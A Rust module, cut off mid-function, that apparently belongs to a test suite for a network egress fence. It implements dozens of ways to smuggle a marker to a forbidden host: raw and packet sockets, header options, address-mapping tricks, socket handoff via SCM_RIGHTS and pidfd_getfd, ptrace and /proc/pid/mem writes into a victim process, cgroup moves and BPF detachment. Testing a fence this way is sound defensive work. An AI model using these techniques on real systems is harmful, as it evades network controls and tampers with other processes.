//! Ways around a fence, one function each. All of them try to get a marker to a host that no contract names.

use std::{
    fs,
    io::{self, Error, ErrorKind, Read, Write},
    net::{Ipv4Addr, Ipv6Addr, SocketAddr, TcpListener, UdpSocket},
    path::Path,
    thread,
    time::Duration,
};

use anyhow::{Context, bail};

use crate::{agent::word, raw};

/// What an attack has to work with.
pub(crate) struct Kit {
    /// Eight bytes that the far end looks for.
    marker: Vec<u8>,
    /// The forbidden host.
    v4: Ipv4Addr,
    v6: Ipv6Addr,
    /// This host's own address on the network.
    own: Ipv4Addr,
    /// A host process that relays: its port on loopback, its unix socket, its pid, the address of the word it looks at.
    relay: u16,
    unix: String,
    victim: i32,
    word: usize,
}

impl Kit {
    fn tcp4(&self) -> SocketAddr {
        SocketAddr::new(self.v4.into(), 7001)
    }

    fn tcp6(&self) -> SocketAddr {
        SocketAddr::new(self.v6.into(), 7001)
    }

    fn udp4(&self) -> SocketAddr {
        SocketAddr::new(self.v4.into(), 7002)
    }

    fn udp6(&self) -> SocketAddr {
        SocketAddr::new(self.v6.into(), 7002)
    }

    fn mapped(&self, port: u16) -> SocketAddr {
        SocketAddr::new(self.v4.to_ipv6_mapped().into(), port)
    }
}

/// An attack.
pub(crate) struct Attack {
    pub(crate) id: &'static str,
    /// Where it was first described.
    pub(crate) source: &'static str,
    act: fn(&Kit) -> io::Result<()>,
}

macro_rules! table {
    ($($id:literal, $source:literal, $act:expr;)*) => {
        /// All of them.
        pub(crate) const TABLE: &[Attack] = &[$(Attack { id: $id, source: $source, act: $act },)*];
    };
}

table! {
    "tcp4-connect", "KERNEL 1.2", |k| tcp(libc::AF_INET, k.tcp4(), k);
    "tcp6-connect", "PEERS 3.2", |k| tcp(libc::AF_INET6, k.tcp6(), k);
    "tcp4-mapped", "KERNEL 1.2", |k| tcp(libc::AF_INET6, k.mapped(7001), k);
    "tcp-bind-then-connect", "PEERS 3.2", bind_then_connect;
    "tcp-nonblocking", "PEERS 3.2", nonblocking;
    "tcp-fastopen", "KERNEL 1.2", |k| fastopen(libc::AF_INET, 0, k.tcp4(), k);
    "tcp-fastopen-mapped", "KERNEL 1.2", |k| fastopen(libc::AF_INET6, 0, k.mapped(7001), k);
    "tcp-fastopen-connect", "KERNEL 1.7", fastopen_connect;
    "tcp-reconnect", "KERNEL 1.2", reconnect;
    "mptcp-connect", "KERNEL 1.2", |k| mptcp(libc::AF_INET, k.tcp4(), k);
    "mptcp-mapped", "KERNEL 1.2", |k| mptcp(libc::AF_INET6, k.mapped(7001), k);
    "mptcp-fastopen", "KERNEL 1.2", |k| fastopen(libc::AF_INET, libc::IPPROTO_MPTCP, k.tcp4(), k);
    "io-uring-connect", "KERNEL 1.2", io_uring_connect;
    "int80-connect", "PEERS 3.2", int80_connect;
    "so-mark", "PEERS 3.2", |k| with_option(libc::SO_MARK, &0xCA12_i32.to_ne_bytes(), k);
    "so-bindtodevice", "PEERS 3.2", |k| with_option(libc::SO_BINDTODEVICE, b"near0\0", k);
    "udp4-sendto", "KERNEL 1.2", |k| udp(libc::AF_INET, k.udp4(), k);
    "udp6-sendto", "PEERS 3.2", |k| udp(libc::AF_INET6, k.udp6(), k);
    "udp4-mapped", "KERNEL 1.2", |k| udp(libc::AF_INET6, k.mapped(7002), k);
    "udp-connected-send", "KERNEL 1.2", |k| udp_connected(k.udp4(), k);
    "udp6-connected-send", "KERNEL 1.2", |k| udp_connected(k.udp6(), k);
    "udp-connect-then-other", "PEERS 3.2", connect_then_other;
    "udp-sendmmsg", "KERNEL 1.2", sendmmsg;
    "udp-fragmented", "PEERS 3.2", fragmented;
    "udp-segmented", "issue 4", segmented;
    "udp-quic-port", "PEERS 3.2", |k| udp(libc::AF_INET, SocketAddr::new(k.v4.into(), 443), k);
    "dns-udp", "PEERS 3.2", |k| udp(libc::AF_INET, SocketAddr::new(k.v4.into(), 53), k);
    "dns-tcp", "PEERS 3.2", |k| tcp(libc::AF_INET, SocketAddr::new(k.v4.into(), 53), k);
    "dot", "PEERS 3.2", |k| tcp(libc::AF_INET, SocketAddr::new(k.v4.into(), 853), k);
    "udplite", "PEERS 3.1", |k| kind(libc::AF_INET, libc::SOCK_DGRAM, 136, k.udp4(), k);
    "udplite6", "PEERS 3.1", |k| kind(libc::AF_INET6, libc::SOCK_DGRAM, 136, k.udp6(), k);
    "sctp", "PEERS 3.2", |k| kind(libc::AF_INET, libc::SOCK_STREAM, 132, k.tcp4(), k);
    "dccp", "PEERS 3.2", |k| kind(libc::AF_INET, 6, 33, k.tcp4(), k);
    "smc", "KERNEL 4", |k| kind(libc::AF_INET, libc::SOCK_STREAM, 256, k.tcp4(), k);
    "udp-broadcast", "PEERS 3.2", broadcast;
    "udp-multicast4", "PEERS 3.2", |k| udp(libc::AF_INET, "239.77.1.2:7002".parse().unwrap_or(k.udp4()), k);
    "udp-multicast6", "PEERS 3.2", multicast6;
    "igmp-join", "KERNEL 4", igmp_join;
    "igmp-source-join", "KERNEL 4", igmp_source_join;
    "mld-join", "KERNEL 4", mld_join;
    "ip-options", "KERNEL 4", ip_options;
    "ip-options-cmsg", "KERNEL 4", ip_options_cmsg;
    "ipv6-hop-options", "KERNEL 4", |k| ipv6_option(54, &hop_options(k), k);
    "ipv6-routing-header", "PEERS 3.2", |k| ipv6_option(57, &routing_header(k), k);
    "nat64", "PEERS 3.2", |k| udp(libc::AF_INET6, SocketAddr::new(nat64(k.v4).into(), 7002), k);
    "6to4", "PEERS 3.2", |k| udp(libc::AF_INET6, SocketAddr::new(six_to_four(k.v4).into(), 7002), k);
    "v4-compatible", "PEERS 3.2", |k| udp(libc::AF_INET6, SocketAddr::new(compatible(k.v4).into(), 7002), k);
    "private-range", "PEERS 3.2", |k| udp(libc::AF_INET, "10.9.8.7:7002".parse().unwrap_or(k.udp4()), k);
    "metadata", "PEERS 3.2", |k| udp(libc::AF_INET, "169.254.169.254:80".parse().unwrap_or(k.udp4()), k);
    "ping4", "PEERS 3.1", |k| ping(libc::AF_INET, k);
    "ping6", "PEERS 3.1", |k| ping(libc::AF_INET6, k);
    "ping4-connected", "PEERS 3.1", ping_connected;
    "raw-icmp4", "PEERS 3.1", |k| raw_icmp(libc::AF_INET, 1, k);
    "raw-icmp6", "PEERS 3.1", |k| raw_icmp(libc::AF_INET6, 58, k);
    "raw-udp", "KERNEL 1.2", |k| raw_transport(17, k);
    "raw-gre", "PEERS 3.1", |k| raw_transport(47, k);
    "raw-hdrincl", "KERNEL 1.2", raw_hdrincl;
    "packet-raw", "PEERS 3.1", |k| packet(libc::SOCK_RAW, 0x88b5, false, k);
    "packet-dgram", "PEERS 3.1", |k| packet(libc::SOCK_DGRAM, 0x88b5, false, k);
    "packet-arp", "PEERS 3.1", |k| packet(libc::SOCK_RAW, 0x0806, false, k);
    "packet-qdisc-bypass", "PEERS 3.1", |k| packet(libc::SOCK_RAW, 0x88b5, true, k);
    "inbound-tcp-answer", "PEERS 3.1", |_| inbound_tcp();
    "inbound-udp-answer", "PEERS 3.1", |_| inbound_udp();
    "loopback-relay", "PEERS 3.2", |k| relay(Ipv4Addr::LOCALHOST.into(), k);
    "loopback-relay-zero", "PEERS 3.2", |k| relay(Ipv4Addr::UNSPECIFIED.into(), k);
    "loopback-relay-v6", "PEERS 3.2", |k| relay(Ipv6Addr::LOCALHOST.into(), k);
    "loopback-relay-mapped", "PEERS 3.2", |k| relay(Ipv4Addr::LOCALHOST.to_ipv6_mapped().into(), k);
    "loopback-relay-own-address", "PEERS 3.2", |k| relay(k.own.into(), k);
    "loopback-relay-udp", "PEERS 3.2", |k| udp(libc::AF_INET, SocketAddr::new(Ipv4Addr::LOCALHOST.into(), k.relay), k);
    "unix-relay", "KERNEL 1.2", |k| unix_relay(k.unix.as_bytes(), k);
    "unix-relay-abstract", "PEERS 3.2", |k| unix_relay(format!("\0{}", k.unix).as_bytes(), k);
    "unix-datagram-pair", "review", unix_datagram_pair;
    "scm-rights-connected", "KERNEL 1.2", |k| scm_rights(b'c', k);
    "scm-rights-unconnected", "KERNEL 1.2", |k| scm_rights(b'u', k);
    "scm-rights-udp", "KERNEL 4", |k| scm_rights(b'd', k);
    "inherited-fd", "PEERS 3.1", inherited;
    "pidfd-getfd", "KERNEL 4", pidfd_getfd;
    "process-vm-writev", "KERNEL 4", process_vm_writev;
    "proc-mem", "KERNEL 4", proc_mem;
    "ptrace-poke", "KERNEL 4", ptrace_poke;
    "move-to-root-cgroup", "PEERS 3.1", move_to_root_cgroup;
    "child-cgroup", "PEERS 3.1", child_cgroup;
    "mount-cgroup2", "KERNEL 4", mount_cgroup2;
    "setuid-helper", "PEERS 3.2", setuid_helper;
    "other-thread", "PEERS 3.2", |k| thread_connect(k);
    "double-fork", "PEERS 3.2", double_fork;
    "unshare-user-raw", "PEERS 3.2", unshare_user_raw;
    "bpf-detach", "KERNEL 1.1", bpf_detach;
    "unpin", "KERNEL 1.1", unpin;
    "kill-daemon", "PEERS 3.2", kill_daemon;
    "sysctl-write", "KERNEL 4", sysctl_write;
}

/// Runs one: `ID MARKER V4 V6 OWN RELAY UNIX VICTIM WORD`.
pub(crate) fn run(id: &str, words: &[&str]) -> anyhow::Result<()> {
    let [marker, v4, v6, own, relay, unix, victim, word_at] = words else { bail!("the kit is not complete") };
    let kit = Kit {
        marker: marker.as_bytes().to_vec(),
        v4: v4.parse()?,
        v6: v6.parse()?,
        own: own.parse()?,
        relay: relay.parse()?,
        unix: (*unix).into(),
        victim: victim.parse()?,
        word: word_at.parse()?,
    };
    let attack = TABLE.iter().find(|attack| attack.id == id).context("no such attack")?;
    match (attack.act)(&kit) {
        Ok(()) => println!("tried"),
        Err(error) => println!("failed {}", word(&error)),
    }
    Ok(())
}

/// Connects and sends on a socket of some kind.
fn through(fd: usize, to: SocketAddr, kit: &Kit) -> io::Result<()> {
    raw::impatient(fd)?;
    raw::connect(fd, to)?;
    raw::send_to(fd, &kit.marker, 0, None).map(drop)
}

fn tcp(family: i32, to: SocketAddr, kit: &Kit) -> io::Result<()> {
    through(raw::socket(family, libc::SOCK_STREAM, 0)?, to, kit)
}

fn kind(family: i32, kind: i32, protocol: i32, to: SocketAddr, kit: &Kit) -> io::Result<()> {
    through(raw::socket(family, kind, protocol)?, to, kit)
}

fn mptcp(family: i32, to: SocketAddr, kit: &Kit) -> io::Result<()> {
    through(raw::socket(family, libc::SOCK_STREAM, libc::IPPROTO_MPTCP)?, to, kit)
}

fn udp(family: i32, to: SocketAddr, kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(family, libc::SOCK_DGRAM, 0)?;
    raw::send_to(fd, &kit.marker, 0, Some(to)).map(drop)
}

fn udp_connected(to: SocketAddr, kit: &Kit) -> io::Result<()> {
    let family = if to.is_ipv4() { libc::AF_INET } else { libc::AF_INET6 };
    through(raw::socket(family, libc::SOCK_DGRAM, 0)?, to, kit)
}

fn bind_then_connect(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    raw::bind(fd, SocketAddr::new(kit.own.into(), 0))?;
    through(fd, kit.tcp4(), kit)
}

fn nonblocking(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
    match raw::connect(fd, kit.tcp4()) {
        Err(error) if error.raw_os_error() != Some(libc::EINPROGRESS) => return Err(error),
        _ => {}
    }
    thread::sleep(Duration::from_millis(100));
    raw::send_to(fd, &kit.marker, 0, None).map(drop)
}

fn fastopen(family: i32, protocol: i32, to: SocketAddr, kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(family, libc::SOCK_STREAM, protocol)?;
    raw::impatient(fd)?;
    raw::send_to(fd, &kit.marker, libc::MSG_FASTOPEN, Some(to)).map(drop)
}

fn fastopen_connect(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    raw::option(fd, libc::IPPROTO_TCP, libc::TCP_FASTOPEN_CONNECT, &1_i32.to_ne_bytes())?;
    through(fd, kit.tcp4(), kit)
}

/// One socket: to a host that may be reached, away, and to the forbidden one.
fn reconnect(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    raw::impatient(fd)?;
    let allowed: SocketAddr = "203.0.113.10:443".parse().unwrap_or(kit.tcp4());
    let _ = raw::connect(fd, allowed);
    let nobody = [0_u8; 16];
    raw::call(libc::SYS_connect, [fd, nobody.as_ptr() as usize, nobody.len(), 0, 0, 0])?;
    raw::connect(fd, kit.tcp4())?;
    raw::send_to(fd, &kit.marker, 0, None).map(drop)
}

fn with_option(name: i32, value: &[u8], kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    raw::option(fd, libc::SOL_SOCKET, name, value)?;
    through(fd, kit.tcp4(), kit)
}

fn connect_then_other(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    raw::connect(fd, "203.0.113.10:443".parse().unwrap_or(kit.udp4()))?;
    raw::send_to(fd, &kit.marker, 0, Some(kit.udp4())).map(drop)
}

/// Two messages: the first to a host that may be reached, the second to the forbidden one.
fn sendmmsg(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let to = [raw::bytes("203.0.113.10:443".parse().unwrap_or(kit.udp4())), raw::bytes(kit.udp4())];
    let harmless = b"harmless";
    let parts = [[harmless.as_ptr() as usize, harmless.len()], [kit.marker.as_ptr() as usize, kit.marker.len()]];
    let mut messages = Vec::new();
    for (to, part) in to.iter().zip(&parts) {
        // struct mmsghdr: name, namelen, iov, iovlen, control, controllen, flags, len.
        messages.extend([to.as_ptr() as usize, to.len(), part.as_ptr() as usize, 1, 0, 0, 0, 0]);
    }
    raw::call(libc::SYS_sendmmsg, [fd, messages.as_ptr() as usize, 2, 0, 0, 0]).map(drop)
}

fn fragmented(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let mut data = vec![0; 6000];
    data.extend_from_slice(&kit.marker);
    raw::send_to(fd, &data, 0, Some(kit.udp4())).map(drop)
}

/// Many datagrams out of one send (UDP_SEGMENT).
fn segmented(kit: &Kit) -> io::Result<()> {
    const UDP_SEGMENT: i32 = 103;
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    raw::option(fd, libc::IPPROTO_UDP, UDP_SEGMENT, &(kit.marker.len() as i32).to_ne_bytes())?;
    let data = kit.marker.repeat(20);
    raw::send_to(fd, &data, 0, Some(kit.udp4())).map(drop)
}

fn broadcast(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    raw::option(fd, libc::SOL_SOCKET, libc::SO_BROADCAST, &1_i32.to_ne_bytes())?;
    raw::send_to(fd, &kit.marker, 0, Some("203.0.113.255:7002".parse().unwrap_or(kit.udp4()))).map(drop)
}

fn multicast6(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET6, libc::SOCK_DGRAM, 0)?;
    raw::option(fd, libc::IPPROTO_IPV6, libc::IPV6_MULTICAST_IF, &interface()?.to_ne_bytes())?;
    raw::send_to(fd, &kit.marker, 0, Some("[ff15::77]:7002".parse().unwrap_or(kit.udp6()))).map(drop)
}

/// The index of the network's interface.
fn interface() -> io::Result<i32> {
    let name = c"near0";
    // SAFETY: a live text with a NUL at its end.
    let index = unsafe { libc::if_nametoindex(name.as_ptr()) };
    if index == 0 { Err(Error::last_os_error()) } else { Ok(index as i32) }
}

/// The kernel reports a group to the network: its address is the message.
fn group(kit: &Kit) -> [u8; 4] {
    [239, kit.marker[5], kit.marker[6], kit.marker[7]]
}

fn igmp_join(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let mut request = group(kit).to_vec();
    request.extend_from_slice(&kit.own.octets());
    raw::option(fd, libc::IPPROTO_IP, libc::IP_ADD_MEMBERSHIP, &request)?;
    thread::sleep(Duration::from_millis(1200));
    Ok(())
}

fn igmp_source_join(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let mut request = group(kit).to_vec();
    request.extend_from_slice(&kit.own.octets());
    request.extend_from_slice(&[1, 2, 3, 4]);
    raw::option(fd, libc::IPPROTO_IP, libc::IP_ADD_SOURCE_MEMBERSHIP, &request)?;
    thread::sleep(Duration::from_millis(1200));
    Ok(())
}

fn mld_join(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET6, libc::SOCK_DGRAM, 0)?;
    let mut request = vec![0xff, 0x15];
    request.extend_from_slice(&[0; 6]);
    request.extend_from_slice(&kit.marker);
    request.extend_from_slice(&interface()?.to_ne_bytes());
    raw::option(fd, libc::IPPROTO_IPV6, libc::IPV6_ADD_MEMBERSHIP, &request)?;
    thread::sleep(Duration::from_millis(1200));
    Ok(())
}

/// To a host that may be reached, with a word for others in the header's options.
fn ip_options(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    raw::option(fd, libc::IPPROTO_IP, libc::IP_OPTIONS, &options(kit))?;
    raw::send_to(fd, b"harmless", 0, Some("203.0.113.10:443".parse().unwrap_or(kit.udp4()))).map(drop)
}

/// An option of a kind that nobody knows, which the kernel passes on: it carries the marker.
fn options(kit: &Kit) -> Vec<u8> {
    let mut options = vec![0x9e, 2 + kit.marker.len() as u8];
    options.extend_from_slice(&kit.marker);
    options.resize(options.len().next_multiple_of(4), 0);
    options
}

fn ip_options_cmsg(kit: &Kit) -> io::Result<()> {
    const IP_RETOPTS: i32 = 7;
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let to = raw::bytes("203.0.113.10:443".parse().unwrap_or(kit.udp4()));
    let data = b"harmless";
    let parts = [data.as_ptr() as usize, data.len()];
    let options = options(kit);
    let mut control = Vec::new();
    control.extend_from_slice(&(16 + options.len()).to_ne_bytes());
    control.extend_from_slice(&libc::IPPROTO_IP.to_ne_bytes());
    control.extend_from_slice(&IP_RETOPTS.to_ne_bytes());
    control.extend_from_slice(&options);
    control.resize(control.len().next_multiple_of(8), 0);
    let message =
        [to.as_ptr() as usize, to.len(), parts.as_ptr() as usize, 1, control.as_ptr() as usize, control.len(), 0];
    raw::call(libc::SYS_sendmsg, [fd, message.as_ptr() as usize, 0, 0, 0, 0]).map(drop)
}

fn hop_options(kit: &Kit) -> Vec<u8> {
    // Next header and length are the kernel's; an option of a kind that is skipped carries the marker.
    let mut header = vec![0, 1, 0x1e, 12];
    header.extend_from_slice(&kit.marker);
    header.extend_from_slice(&[0; 4]);
    header
}

fn routing_header(kit: &Kit) -> Vec<u8> {
    // Type 2 (RFC 6275), one segment: the forbidden host.
    let mut header = vec![0, 2, 2, 1, 0, 0, 0, 0];
    header.extend_from_slice(&kit.v6.octets());
    header
}

fn ipv6_option(name: i32, value: &[u8], kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET6, libc::SOCK_DGRAM, 0)?;
    raw::option(fd, libc::IPPROTO_IPV6, name, value)?;
    raw::send_to(fd, &kit.marker, 0, Some("[2001:db8::10]:443".parse().unwrap_or(kit.udp6()))).map(drop)
}

fn nat64(v4: Ipv4Addr) -> Ipv6Addr {
    let [a, b, c, d] = v4.octets();
    Ipv6Addr::from([0, 0x64, 0xff, 0x9b, 0, 0, 0, 0, 0, 0, 0, 0, a, b, c, d])
}

fn six_to_four(v4: Ipv4Addr) -> Ipv6Addr {
    let [a, b, c, d] = v4.octets();
    Ipv6Addr::from([0x20, 0x02, a, b, c, d, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1])
}

fn compatible(v4: Ipv4Addr) -> Ipv6Addr {
    let [a, b, c, d] = v4.octets();
    Ipv6Addr::from([0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, a, b, c, d])
}

/// An echo request that carries the marker.
fn echo_request(kind: u8, kit: &Kit) -> Vec<u8> {
    let mut packet = vec![kind, 0, 0, 0, 0, 1, 0, 1];
    packet.extend_from_slice(&kit.marker);
    let sum = packet.chunks(2).fold(0_u32, |sum, pair| sum + u32::from(u16::from_be_bytes([pair[0], pair[1]])));
    let sum = (sum & 0xffff) + (sum >> 16);
    let sum = !((sum & 0xffff) + (sum >> 16)) as u16;
    packet[2..4].copy_from_slice(&sum.to_be_bytes());
    packet
}

fn ping(family: i32, kit: &Kit) -> io::Result<()> {
    let (protocol, kind, to) = if family == libc::AF_INET {
        (1, 8, SocketAddr::new(kit.v4.into(), 0))
    } else {
        (58, 128, SocketAddr::new(kit.v6.into(), 0))
    };
    let fd = raw::socket(family, libc::SOCK_DGRAM, protocol)?;
    raw::send_to(fd, &echo_request(kind, kit), 0, Some(to)).map(drop)
}

fn ping_connected(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 1)?;
    raw::connect(fd, SocketAddr::new(kit.v4.into(), 0))?;
    raw::send_to(fd, &echo_request(8, kit), 0, None).map(drop)
}

fn raw_icmp(family: i32, protocol: i32, kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(family, libc::SOCK_RAW, protocol)?;
    let (kind, to) = if family == libc::AF_INET { (8, kit.v4.into()) } else { (128, kit.v6.into()) };
    raw::send_to(fd, &echo_request(kind, kit), 0, Some(SocketAddr::new(to, 0))).map(drop)
}

/// A UDP header in front of the marker, or just the marker.
fn raw_transport(protocol: i32, kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_RAW, protocol)?;
    let mut data = vec![0x1b, 0x5a, 0x1b, 0x5a, 0, 8 + kit.marker.len() as u8, 0, 0];
    data.extend_from_slice(&kit.marker);
    raw::send_to(fd, &data, 0, Some(SocketAddr::new(kit.v4.into(), 0))).map(drop)
}

fn raw_hdrincl(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW)?;
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, 17, 0, 0];
    packet.extend_from_slice(&kit.own.octets());
    packet.extend_from_slice(&kit.v4.octets());
    packet.extend_from_slice(&[0x1b, 0x5a, 0x1b, 0x5a, 0, 8 + kit.marker.len() as u8, 0, 0]);
    packet.extend_from_slice(&kit.marker);
    raw::send_to(fd, &packet, 0, Some(SocketAddr::new(kit.v4.into(), 0))).map(drop)
}

fn packet(kind: i32, ethertype: u16, bypass: bool, kit: &Kit) -> io::Result<()> {
    const PACKET_QDISC_BYPASS: i32 = 20;
    let fd = raw::socket(libc::AF_PACKET, kind, i32::from(ethertype.to_be()))?;
    if bypass {
        raw::option(fd, libc::SOL_PACKET, PACKET_QDISC_BYPASS, &1_i32.to_ne_bytes())?;
    }
    let mut address = Vec::new();
    address.extend_from_slice(&(libc::AF_PACKET as u16).to_ne_bytes());
    address.extend_from_slice(&ethertype.to_be_bytes());
    address.extend_from_slice(&interface()?.to_ne_bytes());
    address.extend_from_slice(&[1, 0, 0, 6]);
    address.extend_from_slice(&[0xff; 6]);
    address.extend_from_slice(&[0, 0]);
    let mut frame = Vec::new();
    if kind == libc::SOCK_RAW {
        frame.extend_from_slice(&[0xff; 6]);
        frame.extend_from_slice(&[2, 0, 0, 0, 0, 1]);
        frame.extend_from_slice(&ethertype.to_be_bytes());
    }
    frame.extend_from_slice(&kit.marker);
    frame.resize(60, 0);
    let a = [fd, frame.as_ptr() as usize, frame.len(), 0, address.as_ptr() as usize, address.len()];
    raw::call(libc::SYS_sendto, a).map(drop)
}

/// The far end calls meanwhile; whatever it says is said back.
fn inbound_tcp() -> io::Result<()> {
    let listener = TcpListener::bind("0.0.0.0:7777")?;
    listener.set_nonblocking(true)?;
    for _ in 0..60 {
        if let Ok((mut stream, _)) = listener.accept() {
            stream.set_nonblocking(false)?;
            let mut buffer = [0; 64];
            let count = stream.read(&mut buffer)?;
            return stream.write_all(&buffer[..count]);
        }
        thread::sleep(Duration::from_millis(10));
    }
    Err(ErrorKind::TimedOut.into())
}

fn inbound_udp() -> io::Result<()> {
    let socket = UdpSocket::bind("0.0.0.0:7777")?;
    socket.set_read_timeout(Some(Duration::from_millis(600)))?;
    let mut buffer = [0; 64];
    let (count, from) = socket.recv_from(&mut buffer)?;
    socket.send_to(&buffer[..count], from).map(drop)
}

fn relay(host: std::net::IpAddr, kit: &Kit) -> io::Result<()> {
    let family = if host.is_ipv4() { libc::AF_INET } else { libc::AF_INET6 };
    let fd = raw::socket(family, libc::SOCK_STREAM, 0)?;
    through(fd, SocketAddr::new(host, kit.relay), kit)?;
    thread::sleep(Duration::from_millis(50));
    Ok(())
}

fn unix_connect(path: &[u8]) -> io::Result<usize> {
    let fd = raw::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0)?;
    let mut address = (libc::AF_UNIX as u16).to_ne_bytes().to_vec();
    address.extend_from_slice(path);
    raw::call(libc::SYS_connect, [fd, address.as_ptr() as usize, address.len(), 0, 0, 0])?;
    Ok(fd)
}

fn unix_relay(path: &[u8], kit: &Kit) -> io::Result<()> {
    let fd = unix_connect(path)?;
    let mut data = vec![b'r'];
    data.extend_from_slice(&kit.marker);
    raw::call(libc::SYS_write, [fd, data.as_ptr() as usize, data.len(), 0, 0, 0])?;
    thread::sleep(Duration::from_millis(50));
    Ok(())
}

/// One of a pair of datagram sockets, which is sent to a host process's socket by its path.
fn unix_datagram_pair(kit: &Kit) -> io::Result<()> {
    let mut pair = [0_i32; 2];
    let fds = pair.as_mut_ptr() as usize;
    raw::call(libc::SYS_socketpair, [libc::AF_UNIX as usize, libc::SOCK_DGRAM as usize, 0, fds, 0, 0])?;
    let mut address = vec![libc::AF_UNIX as u8, 0];
    address.extend_from_slice(format!("{}.d", kit.unix).as_bytes());
    address.push(0);
    let data = kit.marker.as_ptr() as usize;
    let length = kit.marker.len();
    raw::call(libc::SYS_sendto, [pair[0] as usize, data, length, 0, address.as_ptr() as usize, address.len()])?;
    thread::sleep(Duration::from_millis(50));
    Ok(())
}

/// Has the host process hand a socket over, and uses it.
fn scm_rights(which: u8, kit: &Kit) -> io::Result<()> {
    let fd = unix_connect(kit.unix.as_bytes())?;
    raw::call(libc::SYS_write, [fd, [which].as_ptr() as usize, 1, 0, 0, 0])?;
    let mut byte = [0_u8; 1];
    let parts = [byte.as_mut_ptr() as usize, 1];
    let mut control = [0_u8; 64];
    let message = [0, 0, parts.as_ptr() as usize, 1, control.as_mut_ptr() as usize, control.len(), 0];
    raw::call(libc::SYS_recvmsg, [fd, message.as_ptr() as usize, 0, 0, 0, 0])?;
    let given = control[16..20].try_into().map_or(0, i32::from_ne_bytes) as usize;
    if given < 3 {
        return Err(ErrorKind::NotFound.into());
    }
    match which {
        b'c' => raw::send_to(given, &kit.marker, 0, None).map(drop),
        b'u' => through(given, kit.tcp4(), kit),
        _ => raw::send_to(given, &kit.marker, 0, Some(kit.udp4())).map(drop),
    }
}

/// The test leaves a connected socket open for this; others may be open too.
fn inherited(kit: &Kit) -> io::Result<()> {
    let sent = (3..64).filter(|fd| raw::send_to(*fd, &kit.marker, libc::MSG_NOSIGNAL, None).is_ok()).count();
    if sent > 0 { Ok(()) } else { Err(ErrorKind::NotFound.into()) }
}

fn pidfd_getfd(kit: &Kit) -> io::Result<()> {
    let handle = raw::call(libc::SYS_pidfd_open, [kit.victim as usize, 0, 0, 0, 0, 0])?;
    for fd in 3..32 {
        if let Ok(taken) = raw::call(libc::SYS_pidfd_getfd, [handle, fd, 0, 0, 0, 0])
            && raw::send_to(taken, &kit.marker, libc::MSG_NOSIGNAL, Some(kit.udp4())).is_ok()
        {
            return Ok(());
        }
    }
    Err(Error::last_os_error())
}

/// Eight bytes into the word that the host process looks at: it sends them.
fn process_vm_writev(kit: &Kit) -> io::Result<()> {
    let local = [kit.marker.as_ptr() as usize, 8];
    let remote = [kit.word, 8];
    let a = [kit.victim as usize, local.as_ptr() as usize, 1, remote.as_ptr() as usize, 1, 0];
    raw::call(libc::SYS_process_vm_writev, a)?;
    thread::sleep(Duration::from_millis(100));
    Ok(())
}

fn proc_mem(kit: &Kit) -> io::Result<()> {
    use std::os::unix::fs::FileExt;
    let memory = fs::OpenOptions::new().write(true).open(format!("/proc/{}/mem", kit.victim))?;
    memory.write_all_at(&kit.marker[..8], kit.word as u64)?;
    thread::sleep(Duration::from_millis(100));
    Ok(())
}

fn ptrace_poke(kit: &Kit) -> io::Result<()> {
    let trace = |request: u32, address: usize, data: usize| {
        raw::call(libc::SYS_ptrace, [request as usize, kit.victim as usize, address, data, 0, 0])
    };
    trace(libc::PTRACE_ATTACH, 0, 0)?;
    thread::sleep(Duration::from_millis(50));
    let word = kit.marker[..8].try_into().map_or(0, usize::from_ne_bytes);
    trace(libc::PTRACE_POKEDATA, kit.word, word)?;
    trace(libc::PTRACE_DETACH, 0, 0)?;
    thread::sleep(Duration::from_millis(100));
    Ok(())
}

fn cgroup_root() -> io::Result<std::path::PathBuf> {
    sys::cgroup::mount_point()
}

fn move_to_root_cgroup(kit: &Kit) -> io::Result<()> {
    fs::write(cgroup_root()?.join("cgroup.procs"), "0")?;
    tcp(libc::AF_INET, kit.tcp4(), kit)
}

fn child_cgroup(kit: &Kit) -> io::Result<()> {
    let own = sys::cgroup::of_process(std::process::id() as i32)?;
    let child = cgroup_root()?.join(own.trim_start_matches('/')).join("hidden");
    fs::create_dir(&child)?;
